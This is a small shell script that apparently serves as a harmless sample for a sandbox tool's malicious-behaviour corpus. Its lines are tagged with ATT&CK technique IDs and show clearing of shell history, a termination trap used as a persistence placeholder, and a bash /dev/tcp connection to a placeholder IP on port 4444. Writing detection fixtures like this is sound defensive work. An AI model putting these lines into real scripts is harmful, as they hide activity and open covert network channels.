#!/bin/sh
# MALICIOUS-behaviour corpus sample (harmless): what only a script's text shows. Shell builtins
# start no program and open no file; sandtrace reads this file from the container after the run.
unset HISTFILE                                   # T1562.003: no history
trap 'echo "[corpus] relaunch would go here"' TERM HUP   # T1546.005: come back when stopped
# T1059.004: bash's /dev/tcp (busybox ash has none: the line fails, the text is what matters)
if [ -n "$BASH_VERSION" ]; then exec 3<>/dev/tcp/198.51.100.9/4444; fi
echo "[corpus] script builtins done"
